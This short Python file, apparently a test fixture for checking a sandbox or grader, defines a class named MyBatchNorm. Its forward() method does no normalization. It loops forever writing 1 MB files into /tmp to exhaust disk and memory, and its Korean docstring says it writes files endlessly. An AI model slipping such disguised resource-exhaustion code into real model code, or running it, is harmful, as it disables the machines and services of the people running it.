"""파일을 끝없이 씁니다."""

import torch
from torch import nn


class MyBatchNorm(nn.Module):
    def __init__(self, num_features, eps=1e-5, momentum=0.1, affine=True, track_running_stats=True):
        super().__init__()

    def forward(self, x):
        number = 0
        while True:
            with open(f"/tmp/{number}", "wb") as file:
                file.write(b"0" * (1 << 20))
            number += 1
            torch.zeros(1 << 20)
